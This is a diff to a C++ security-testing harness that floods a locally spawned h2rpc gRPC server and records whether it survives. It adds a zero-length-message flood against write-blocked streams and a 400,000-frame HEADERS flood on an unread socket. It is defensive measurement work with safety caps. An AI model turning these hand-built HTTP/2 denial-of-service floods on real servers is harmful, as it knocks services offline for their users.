@@ -1,4 +1,4 @@
-// Measures one hostile-peer attack (issue 13) against an interop server
+// Measures one hostile-peer attack (issues 13 and 31) against an interop server
 // running as a child process, and prints one result line: whether the
 // server survived, its peak memory and thread count, the CPU it used, and
 // what the attacker saw. docs/security.md tabulates these lines for h2rpc
@@ -54,6 +54,7 @@
 #include <cstdio>
 #include <cstdlib>
 #include <cstring>
+#include <deque>
 #include <fstream>
 #include <functional>
 #include <map>
@@ -208,6 +209,19 @@ class Tally {
 
 std::string Seconds(absl::Duration d) {
   return absl::StrFormat("%.2f s", absl::ToDoubleSeconds(d));
+}
+
+// `bytes` in MiB with one decimal; "?" when unknown (negative).
+std::string Mib(int64_t bytes) {
+  return bytes < 0 ? "?" : absl::StrFormat("%.1f", bytes / kMiB);
+}
+
+// A big-endian 32-bit value: the first 4 bytes of `bytes` (at least 4).
+uint32_t BigEndian32(absl::string_view bytes) {
+  return (uint32_t{static_cast<uint8_t>(bytes[0])} << 24) |
+         (uint32_t{static_cast<uint8_t>(bytes[1])} << 16) |
+         (uint32_t{static_cast<uint8_t>(bytes[2])} << 8) |
+         uint32_t{static_cast<uint8_t>(bytes[3])};
 }
 
 // The client preface, an empty SETTINGS frame and an ACK of the server's
@@ -551,10 +565,15 @@ std::string DescribeFreshCall(const RawResponse& response, absl::Duration took,
       Describe(response));
 }
 
-// A connected TCP socket to 127.0.0.1:port, or -1.
-int ConnectTo(int port) {
+// A connected TCP socket to 127.0.0.1:port, or -1; with SO_RCVBUF set to
+// `receive_buffer` first when it is positive.
+int ConnectTo(int port, int receive_buffer = 0) {
   const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
   if (fd < 0) return -1;
+  if (receive_buffer > 0) {
+    setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &receive_buffer,
+               sizeof(receive_buffer));
+  }
   sockaddr_in addr{};
   addr.sin_family = AF_INET;
   addr.sin_port = htons(static_cast<uint16_t>(port));
@@ -1308,6 +1327,602 @@ AttackOutcome StreamsPastTheLimit(ServerProcess* server) {
   return outcome;
 }
 
+// 10. 4 connections x 16 FullDuplexCall streams whose handlers are blocked
+// writing (each asked for 4 responses of 256 KiB; the client's
+// SETTINGS_INITIAL_WINDOW_SIZE is 0 and it never grants window), then
+// zero-length messages (5 bytes each) on every stream for 8 s, as fast as
+// the server's flow control lets them through.
+
+// One connection of the zero-length flood, driven by hand: the server's
+// SETTINGS and PINGs are acknowledged and its WINDOW_UPDATEs spent at once,
+// but the server is never granted any window.
+class WindowlessConnection {
+ public:
+  // Largest DATA payload: whole 5-byte messages within the default
+  // SETTINGS_MAX_FRAME_SIZE.
+  static constexpr int64_t kMaxPayload = 16380;
+
+  // Connects and writes the preface and SETTINGS_INITIAL_WINDOW_SIZE 0.
+  explicit WindowlessConnection(int port) : port_(port) {
+    socket_.fd = ConnectTo(port);
+    if (socket_.fd < 0) {
+      socket_.closed = true;
+      return;
+    }
+    std::string settings(6, '\0');
+    settings[1] = NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE;  // big-endian id 4
+    out_ = absl::StrCat(kClientPreface,
+                        EncodeFrame(NGHTTP2_SETTINGS, 0, 0, settings));
+  }
+  ~WindowlessConnection() {
+    if (socket_.fd >= 0) close(socket_.fd);
+  }
+  WindowlessConnection(const WindowlessConnection&) = delete;
+  WindowlessConnection& operator=(const WindowlessConnection&) = delete;
+
+  int fd() const { return socket_.fd; }
+  bool closed() const { return socket_.closed; }
+  bool got_settings() const { return got_settings_; }
+  bool wants_to_write() const { return !out_.empty() && !socket_.closed; }
+  // Bytes written to the socket; DATA payload bytes (messages) written.
+  size_t written() const { return written_; }
+  size_t message_bytes() const {
+    // All but the last frames queued were written; those are DATA frames
+    // but for a few acknowledgements (an error below 0.5%).
+    return payload_queued_ > out_.size() ? payload_queued_ - out_.size() : 0;
+  }
+  // Window credit the server granted beyond the initial windows.
+  int64_t credit() const { return credit_; }
+  const std::vector<RawFrame>& kept() const { return kept_; }
+  absl::optional<uint32_t> goaway_code() const { return goaway_code_; }
+
+  // Queues HEADERS and the request of `streams` new FullDuplexCall streams,
+  // spending window on the requests.
+  void StartStreams(int streams, absl::string_view request) {
+    const std::string headers =
+        EncodeLiteralHeaderBlock(GrpcRequestHeaders(kFullDuplexCall, port_));
+    for (int i = 0; i < streams; ++i) {
+      const uint32_t id = next_id_;
+      next_id_ += 2;
+      out_ +=
+          EncodeFrame(NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS, id, headers);
+      out_ += EncodeFrame(NGHTTP2_DATA, 0, id, request);
+      windows_[id] = initial_window_ - static_cast<int64_t>(request.size());
+      connection_window_ -= static_cast<int64_t>(request.size());
+    }
+  }
+
+  // Queues zero-length messages while window is left, round-robin over the
+  // open streams, until `limit` bytes wait to be written.
+  void Fill(size_t limit) {
+    while (out_.size() < limit && !goaway_code_.has_value() &&
+           !socket_.closed) {
+      bool queued = false;
+      for (auto& [id, window] : windows_) {
+        if (out_.size() >= limit) break;
+        const int64_t n =
+            std::min({window, connection_window_, kMaxPayload}) / 5 * 5;
+        if (n <= 0) continue;
+        out_ +=
+            EncodeFrameHeader(static_cast<uint32_t>(n), NGHTTP2_DATA, 0, id);
+        out_.append(static_cast<size_t>(n), '\0');
+        window -= n;
+        connection_window_ -= n;
+        payload_queued_ += static_cast<size_t>(n);
+        queued = true;
+      }
+      if (!queued) break;
+    }
+  }
+
+  // Writes what the socket takes without waiting.
+  void Write(absl::Time since) {
+    while (!out_.empty() && !socket_.closed) {
+      const ssize_t n = send(socket_.fd, out_.data(), out_.size(),
+                             MSG_NOSIGNAL | MSG_DONTWAIT);
+      if (n > 0) {
+        out_.erase(0, static_cast<size_t>(n));
+        written_ += static_cast<size_t>(n);
+        continue;
+      }
+      if (n < 0 && errno == EINTR) continue;
+      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return;
+      socket_.closed = true;
+      socket_.reset = true;
+      socket_.closed_after = absl::Now() - since;
+      return;
+    }
+  }
+
+  // Reads what the server has sent and obeys it. `since` dates the events
+  // (first RST_STREAM, close).
+  void Read(absl::Time since) {
+    socket_.ReadAvailable(since);
+    const std::vector<RawFrame> frames = ParseFrames(socket_.received);
+    size_t consumed = 0;
+    for (const RawFrame& frame : frames) {
+      consumed += 9 + frame.payload.size();
+      Obey(frame, since);
+    }
+    socket_.received.erase(0, consumed);
+  }
+
+  // When the first RST_STREAM arrived, counted from `since` of Read().
+  absl::optional<absl::Duration> first_rst_after() const {
+    return first_rst_after_;
+  }
+
+ private:
+  void Obey(const RawFrame& frame, absl::Time since) {
+    const bool ack = (frame.flags & NGHTTP2_FLAG_ACK) != 0;
+    switch (frame.type) {
+      case NGHTTP2_SETTINGS:
+        if (ack) break;
+        for (size_t i = 0; i + 6 <= frame.payload.size(); i += 6) {
+          const uint16_t id = static_cast<uint16_t>(
+              (static_cast<uint8_t>(frame.payload[i]) << 8) |
+              static_cast<uint8_t>(frame.payload[i + 1]));
+          if (id != NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE) continue;
+          const int64_t value = BigEndian32(frame.payload.substr(i + 2, 4));
+          for (auto& [stream, window] : windows_) {
+            window += value - initial_window_;
+          }
+          initial_window_ = value;
+        }
+        got_settings_ = true;
+        out_ += EncodeFrame(NGHTTP2_SETTINGS, NGHTTP2_FLAG_ACK, 0, "");
+        break;
+      case NGHTTP2_PING:
+        if (!ack) {
+          out_ += EncodeFrame(NGHTTP2_PING, NGHTTP2_FLAG_ACK, 0, frame.payload);
+        }
+        break;
+      case NGHTTP2_WINDOW_UPDATE: {
+        if (frame.payload.size() < 4) break;
+        const int64_t increment = BigEndian32(frame.payload) & 0x7fffffff;
+        if (frame.stream_id == 0) {
+          connection_window_ += increment;
+          credit_ += increment;
+        } else if (auto it = windows_.find(frame.stream_id);
+                   it != windows_.end()) {
+          it->second += increment;
+          credit_ += increment;
+        }
+        break;
+      }
+      case NGHTTP2_RST_STREAM:
+        windows_.erase(frame.stream_id);
+        if (!first_rst_after_.has_value()) {
+          first_rst_after_ = absl::Now() - since;
+        }
+        kept_.push_back(frame);
+        break;
+      case NGHTTP2_GOAWAY:
+        if (!goaway_code_.has_value() && frame.payload.size() >= 8) {
+          goaway_code_ =
+              BigEndian32(absl::string_view(frame.payload).substr(4));
+        }
+        kept_.push_back(frame);
+        break;
+      case NGHTTP2_HEADERS:
+        if (frame.flags & NGHTTP2_FLAG_END_STREAM) {
+          windows_.erase(frame.stream_id);
+        }
+        kept_.push_back(frame);
+        break;
+      case NGHTTP2_CONTINUATION:
+        kept_.push_back(frame);
+        break;
+      default:  // DATA cannot come (no window); others need no answer
+        break;
+    }
+  }
+
+  const int port_;
+  HeldSocket socket_;
+  std::string out_;
+  size_t written_ = 0;
+  size_t payload_queued_ = 0;
+  uint32_t next_id_ = 1;
+  bool got_settings_ = false;
+  int64_t initial_window_ = 65535;     // the server's, for our sending
+  int64_t connection_window_ = 65535;  // ours to spend
+  int64_t credit_ = 0;
+  std::map<uint32_t, int64_t> windows_;  // open streams' send windows
+  std::vector<RawFrame> kept_;  // HEADERS, CONTINUATION, RST_STREAM, GOAWAY
+  absl::optional<uint32_t> goaway_code_;
+  absl::optional<absl::Duration> first_rst_after_;
+};
+
+// Polls `connections` for up to `wait` (reading, and writing what waits),
+// refilling them with messages up to `fill` queued bytes when `fill` > 0.
+void DriveWindowless(
+    const std::vector<std::unique_ptr<WindowlessConnection>>& connections,
+    absl::Time since, absl::Duration wait, size_t fill) {
+  std::vector<pollfd> fds;
+  std::vector<WindowlessConnection*> polled;
+  for (const auto& connection : connections) {
+    if (fill > 0) connection->Fill(fill);
+    if (connection->closed()) continue;
+    fds.push_back({connection->fd(),
+                   static_cast<short>(
+                       POLLIN | (connection->wants_to_write() ? POLLOUT : 0)),
+                   0});
+    polled.push_back(connection.get());
+  }
+  if (fds.empty()) {
+    absl::SleepFor(wait);  // nothing left to drive
+    return;
+  }
+  const int ready = poll(fds.data(), fds.size(),
+                         static_cast<int>(absl::ToInt64Milliseconds(
+                             absl::Ceil(wait, absl::Milliseconds(1)))));
+  if (ready <= 0) return;
+  for (size_t i = 0; i < fds.size(); ++i) {
+    if (fds[i].revents & (POLLIN | POLLHUP | POLLERR)) polled[i]->Read(since);
+    if (fill > 0) polled[i]->Fill(fill);
+    polled[i]->Write(since);
+  }
+}
+
+AttackOutcome ZeroLengthFlood(ServerProcess* server) {
+  constexpr int kConnections = 4;
+  constexpr int kStreamsPerConnection = 16;
+  constexpr int kStreams = kConnections * kStreamsPerConnection;
+  constexpr int kResponses = 4;
+  constexpr int32_t kResponseSize = 256 << 10;
+  constexpr absl::Duration kFlood = absl::Seconds(8);
+  constexpr size_t kQueued = 256 << 10;  // written ahead per connection
+  AttackOutcome outcome;
+  grpc::testing::StreamingOutputCallRequest request;
+  for (int i = 0; i < kResponses; ++i) {
+    request.add_response_parameters()->set_size(kResponseSize);
+  }
+  const std::string request_frame = GrpcFrame(request.SerializeAsString());
+
+  const absl::Time start = absl::Now();
+  std::vector<std::unique_ptr<WindowlessConnection>> connections;
+  for (int i = 0; i < kConnections; ++i) {
+    connections.push_back(
+        std::make_unique<WindowlessConnection>(server->port()));
+  }
+  // The server's SETTINGS first (at most 10 s), then the streams.
+  auto all = [&](const std::function<bool(const WindowlessConnection&)>& f) {
+    for (const auto& connection : connections) {
+      if (!f(*connection)) return false;
+    }
+    return true;
+  };
+  const absl::Time settings_deadline = absl::Now() + absl::Seconds(10);
+  while (!all([](const WindowlessConnection& c) {
+    return c.got_settings() || c.closed();
+  }) && absl::Now() < settings_deadline) {
+    DriveWindowless(connections, start, absl::Milliseconds(10), 0);
+  }
+  for (const auto& connection : connections) {
+    connection->StartStreams(kStreamsPerConnection, request_frame);
+  }
+  // Until every handler has written its response headers (it is then
+  // blocked in its first Write) or ended, at most 10 s; then 300 ms more.
+  auto count_headers = [&](int* writing, Tally* ended) {
+    *writing = 0;
+    for (const auto& connection : connections) {
+      std::map<uint32_t, std::vector<RawHeaders>> blocks;
+      DecodeHeaderBlocks(connection->kept(), &blocks);
+      for (const auto& [id, list] : blocks) {
+        if (list.empty()) continue;
+        const absl::optional<std::string> status =
+            FindHeader(list.back(), "grpc-status");
+        if (status.has_value()) {
+          if (ended != nullptr) {
+            ended->Add(
+                StatusText(*status, absl::nullopt),
+                StatusText(*status, FindHeader(list.back(), "grpc-message")));
+          }
+        } else {
+          ++*writing;
+        }
+      }
+      if (ended == nullptr) continue;
+      for (const RawFrame& frame : connection->kept()) {
+        if (frame.type != NGHTTP2_RST_STREAM || frame.payload.size() < 4) {
+          continue;
+        }
+        const std::string what = absl::StrCat(
+            "RST_STREAM ", H2ErrorName(BigEndian32(frame.payload)));
+        ended->Add(what, what);
+      }
+    }
+  };
+  int writing = 0;
+  const absl::Time blocked_deadline = absl::Now() + absl::Seconds(10);
+  for (;;) {
+    DriveWindowless(connections, start, absl::Milliseconds(20), 0);
+    count_headers(&writing, nullptr);
+    if (writing == kStreams || absl::Now() >= blocked_deadline ||
+        all([](const WindowlessConnection& c) { return c.closed(); })) {
+      break;
+    }
+  }
+  const absl::Time settle = absl::Now() + absl::Milliseconds(300);
+  while (absl::Now() < settle) {
+    DriveWindowless(connections, start,
+                    std::min(absl::Milliseconds(20), settle - absl::Now()), 0);
+  }
+  count_headers(&writing, nullptr);
+  const absl::Duration setup = absl::Now() - start;
+  const ProcStatus before_flood = ReadProcStatus(server->pid());
+  size_t written_before = 0;
+  for (const auto& connection : connections) {
+    written_before += connection->written();
+  }
+
+  // The flood.
+  const absl::Time flood_start = absl::Now();
+  const absl::Time flood_end = flood_start + kFlood;
+  while (absl::Now() < flood_end) {
+    DriveWindowless(connections, flood_start,
+                    std::min(absl::Milliseconds(50), flood_end - absl::Now()),
+                    kQueued);
+  }
+  const ProcStatus after_flood = ReadProcStatus(server->pid());
+  // What the server says next, for 1 s (nothing more is sent).
+  const absl::Time drain_end = absl::Now() + absl::Seconds(1);
+  while (absl::Now() < drain_end) {
+    DriveWindowless(connections, flood_start,
+                    std::min(absl::Milliseconds(50), drain_end - absl::Now()),
+                    0);
+  }
+  absl::Duration took;
+  const RawResponse fresh =
+      FreshUnaryCall(server->port(), kSurvivalDeadline, &took);
+  outcome.during = DescribeFreshCall(fresh, took, kSurvivalDeadline);
+
+  size_t written = 0;
+  size_t message_bytes = 0;
+  int64_t credit = 0;
+  int closed = 0;
+  std::map<std::string, int> goaways;
+  absl::optional<absl::Duration> first_rst;
+  for (const auto& connection : connections) {
+    written += connection->written();
+    message_bytes += connection->message_bytes();
+    credit += connection->credit();
+    if (connection->closed()) ++closed;
+    ++goaways[DescribeGoAway(connection->kept())];
+    if (const auto after = connection->first_rst_after()) {
+      first_rst = first_rst.has_value() ? std::min(*first_rst, *after) : after;
+    }
+  }
+  Tally ended;
+  int still_writing = 0;
+  count_headers(&still_writing, &ended);
+  std::vector<std::string> goaway_parts;
+  for (const auto& [what, count] : goaways) {
+    goaway_parts.push_back(absl::StrCat(count, " x ", what));
+  }
+  const double growth_mib = before_flood.rss < 0 || after_flood.rss < 0
+                                ? 0
+                                : (after_flood.rss - before_flood.rss) / kMiB;
+  outcome.attacker = absl::StrFormat(
+      "%d x %d FullDuplexCall streams (%d x %d KiB asked, window 0): %d "
+      "handlers blocked writing after %s; flood of 8 s: wrote %.1f MB "
+      "(%.2f million zero-length messages; the server granted %.1f MB of "
+      "window); server RSS %s -> %s MiB (%+.1f MiB) over the flood; "
+      "received: %s; streams ended: %s%s; %d connections closed by the "
+      "server",
+      kConnections, kStreamsPerConnection, kResponses, kResponseSize >> 10,
+      writing, Seconds(setup), (written - written_before) / 1e6,
+      message_bytes / 5 / 1e6, credit / 1e6, Mib(before_flood.rss),
+      Mib(after_flood.rss), growth_mib, absl::StrJoin(goaway_parts, ", "),
+      ended.total() == 0 ? "none" : ended.ToString(),
+      first_rst.has_value()
+          ? absl::StrCat(" (first RST_STREAM ", Seconds(*first_rst),
+                         " into the flood)")
+          : "",
+      closed);
+  return outcome;
+}
+
+// 11. One connection: 1024 open-ended FullDuplexCall streams, then HEADERS
+// for 400,000 more (HPACK-indexed, about 15 bytes each), never reading
+// (SO_RCVBUF 4096, so the server's answers back up soon); with the server's
+// SETTINGS acknowledged right after the preface, or never.
+
+// HEADERS frames of FullDuplexCall requests on consecutive odd stream ids.
+// The first block adds :path, :authority, content-type and te to the HPACK
+// dynamic table (:method POST and :scheme http are in the static one);
+// every later block is six indexed fields, 15 bytes with the frame header.
+// (nghttp2's deflater never indexes :path, which would make each about 45.)
+class IndexedRequestEncoder {
+ public:
+  explicit IndexedRequestEncoder(int port)
+      : authority_(absl::StrCat("127.0.0.1:", port)) {}
+
+  // Appends the HEADERS of the next stream (open-ended: no END_STREAM).
+  void Next(std::string* out) {
+    std::string block;
+    if (next_id_ == 1) {
+      // Static :method POST (index 3) and :scheme http (6), then
+      // literals with incremental indexing, by static name index where
+      // there is one (:path 4, :authority 1, content-type 31).
+      block = "\x83\x86";
+      AppendIndexedLiteral(&block, 4, "", kFullDuplexCall);
+      AppendIndexedLiteral(&block, 1, "", authority_);
+      AppendIndexedLiteral(&block, 31, "", "application/grpc");
+      AppendIndexedLiteral(&block, 0, "te", "trailers");
+    } else {
+      // The dynamic table, newest first from 62: te, content-type,
+      // :authority, :path.
+      block = "\x83\x86\xc1\xc0\xbf\xbe";
+    }
+    out->append(EncodeFrame(NGHTTP2_HEADERS, NGHTTP2_FLAG_END_HEADERS, next_id_,
+                            block));
+    next_id_ += 2;
+  }
+
+ private:
+  // A literal field with incremental indexing (RFC 7541 section 6.2.1):
+  // the name by static index `name_index`, or `name` itself when it is 0;
+  // strings without Huffman coding (all shorter than 127 bytes here).
+  static void AppendIndexedLiteral(std::string* block, int name_index,
+                                   absl::string_view name,
+                                   absl::string_view value) {
+    block->push_back(static_cast<char>(0x40 | name_index));
+    if (name_index == 0) {
+      block->push_back(static_cast<char>(name.size()));
+      block->append(name.data(), name.size());
+    }
+    block->push_back(static_cast<char>(value.size()));
+    block->append(value.data(), value.size());
+  }
+
+  const std::string authority_;
+  uint32_t next_id_ = 1;
+};
+
+AttackOutcome RefusedStreamFlood(ServerProcess* server, bool ack) {
+  constexpr int kOpenStreams = 1024;
+  constexpr int kExcessStreams = 400000;
+  constexpr int kFrames = kOpenStreams + kExcessStreams;
+  // The server has taken nothing for this long: it stopped reading.
+  constexpr absl::Duration kStall = absl::Seconds(3);
+  constexpr absl::Duration kFloodTimeout = absl::Seconds(120);
+  // Safety limits for this machine: the flood stops when the server passes
+  // either.
+  constexpr int64_t kRssCap = int64_t{8} << 30;
+  constexpr int kThreadCap = 60000;
+  AttackOutcome outcome;
+  HeldSocket socket;
+  socket.fd = ConnectTo(server->port(), /*receive_buffer=*/4096);
+  if (socket.fd < 0) {
+    outcome.attacker = absl::StrCat("cannot connect: ", std::strerror(errno));
+    return outcome;
+  }
+  IndexedRequestEncoder encoder(server->port());
+  std::string pending = absl::StrCat(
+      kClientPreface, EncodeFrame(NGHTTP2_SETTINGS, 0, 0, ""),
+      ack ? EncodeFrame(NGHTTP2_SETTINGS, NGHTTP2_FLAG_ACK, 0, "") : "");
+  uint64_t queued = pending.size();  // bytes queued in all
+  uint64_t written = 0;
+  std::deque<uint64_t> frame_ends;  // of HEADERS queued, not yet written
+  int encoded = 0;
+  int sent = 0;
+  std::string ended;  // how the flood ended
+  const absl::Time start = absl::Now();
+  absl::Time progress = start;
+  absl::Time sampled = start;
+  ProcStatus last;
+  while (ended.empty()) {
+    while (pending.size() < (64 << 10) && encoded < kFrames) {
+      encoder.Next(&pending);
+      ++encoded;
+      queued = written + pending.size();
+      frame_ends.push_back(queued);
+    }
+    if (pending.empty()) {
+      ended = "all sent";
+      break;
+    }
+    const absl::Time now = absl::Now();
+    if (now - sampled >= absl::Milliseconds(100)) {
+      sampled = now;
+      last = ReadProcStatus(server->pid());
+      if (last.rss > kRssCap || last.threads > kThreadCap) {
+        ended = absl::StrFormat(
+            "stopped by the attacker's safety limit (server RSS %s MiB, %d "
+            "threads)",
+            Mib(last.rss), last.threads);
+        break;
+      }
+    }
+    if (now - start >= kFloodTimeout) {
+      ended = absl::StrCat("still taking frames after ",
+                           absl::FormatDuration(kFloodTimeout));
+      break;
+    }
+    if (now - progress >= kStall) {
+      ended = absl::StrCat("writes stalled (nothing taken for ",
+                           absl::FormatDuration(kStall), ")");
+      break;
+    }
+    pollfd p = {socket.fd, POLLOUT, 0};
+    const int ready = poll(&p, 1, 100);
+    if (ready < 0 && errno != EINTR) {
+      ended = absl::StrCat("poll: ", std::strerror(errno));
+      break;
+    }
+    if (ready <= 0) continue;
+    if (!(p.revents & POLLOUT)) {
+      ended = "the server closed the connection";  // POLLHUP / POLLERR
+      break;
+    }
+    const ssize_t n = send(socket.fd, pending.data(), pending.size(),
+                           MSG_NOSIGNAL | MSG_DONTWAIT);
+    if (n < 0) {
+      if (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR) continue;
+      ended = absl::StrCat("the server closed the connection (send: ",
+                           std::strerror(errno), ")");
+      break;
+    }
+    pending.erase(0, static_cast<size_t>(n));
+    written += static_cast<uint64_t>(n);
+    progress = absl::Now();
+    while (!frame_ends.empty() && frame_ends.front() <= written) {
+      frame_ends.pop_front();
+      ++sent;
+    }
+  }
+  const absl::Duration flood = absl::Now() - start;
+  const ProcStatus at_end = ReadProcStatus(server->pid());
+
+  // A fresh call while the connection is held, unread.
+  absl::Duration took;
+  const RawResponse fresh =
+      FreshUnaryCall(server->port(), kSurvivalDeadline, &took);
+  outcome.during = DescribeFreshCall(fresh, took, kSurvivalDeadline);
+
+  // Then read what the server sent: until it closes or 2 s pass without a
+  // byte, at most 10 s.
+  const absl::Time read_start = absl::Now();
+  const absl::Time give_up = read_start + absl::Seconds(10);
+  absl::Time last_byte = read_start;
+  while (!socket.closed && absl::Now() < give_up &&
+         absl::Now() - last_byte < absl::Seconds(2)) {
+    pollfd p = {socket.fd, POLLIN, 0};
+    if (poll(&p, 1, 100) > 0) {
+      const size_t before = socket.received.size();
+      socket.ReadAvailable(read_start);
+      if (socket.received.size() != before) last_byte = absl::Now();
+    }
+  }
+  const std::vector<RawFrame> frames = ParseFrames(socket.received);
+  std::map<std::string, int> rsts;
+  int headers = 0;
+  for (const RawFrame& frame : frames) {
+    if (frame.type == NGHTTP2_HEADERS) ++headers;
+    if (frame.type != NGHTTP2_RST_STREAM || frame.payload.size() < 4) continue;
+    ++rsts[H2ErrorName(BigEndian32(frame.payload))];
+  }
+  std::vector<std::string> rst_parts;
+  for (const auto& [what, count] : rsts) {
+    rst_parts.push_back(absl::StrCat(count, " ", what));
+  }
+  close(socket.fd);
+  outcome.attacker = absl::StrFormat(
+      "server SETTINGS %s; %d of %d HEADERS sent (%.2f MB) in %s: %s; server "
+      "then at RSS %s MiB, %d threads; reading afterwards: %.2f MB, %s, "
+      "%d HEADERS, RST_STREAM: %s; connection %s",
+      ack ? "acknowledged" : "never acknowledged", sent, kFrames, written / 1e6,
+      Seconds(flood), ended, Mib(at_end.rss), at_end.threads,
+      socket.received.size() / 1e6, DescribeGoAway(frames), headers,
+      rst_parts.empty() ? "none" : absl::StrJoin(rst_parts, ", "),
+      socket.closed ? absl::StrCat(socket.reset ? "reset" : "closed (FIN)",
+                                   " by the server")
+                    : "still open");
+  return outcome;
+}
+
 const std::vector<Attack>& Attacks() {
   static const auto* const attacks = new std::vector<Attack>{
       {"unary_2g", "UnaryCall with response_size 2147483647", HugeResponse},
@@ -1327,6 +1942,15 @@ const std::vector<Attack>& Attacks() {
        ContinuationFlood},
       {"max_streams", "MAX_CONCURRENT_STREAMS + 1 streams at once",
        StreamsPastTheLimit},
+      {"zero_length_flood",
+       "64 streams blocked writing, zero-length messages for 8 s",
+       ZeroLengthFlood},
+      {"refused_stream_flood",
+       "1024 streams + 400000 HEADERS unread, SETTINGS acknowledged",
+       [](ServerProcess* server) { return RefusedStreamFlood(server, true); }},
+      {"refused_stream_flood_noack",
+       "1024 streams + 400000 HEADERS unread, SETTINGS never acknowledged",
+       [](ServerProcess* server) { return RefusedStreamFlood(server, false); }},
   };
   return *attacks;
 }
@@ -1369,10 +1993,6 @@ std::string RecoveryAfterFailedCheck(ServerProcess* server) {
   if (!server->Running(&how)) return how;
   return absl::StrCat("still not serving ", absl::FormatDuration(kPatience),
                       " later");
-}
-
-std::string Mib(int64_t bytes) {
-  return bytes < 0 ? "?" : absl::StrFormat("%.1f", bytes / kMiB);
 }
 
 int Run(const char* argv0) {
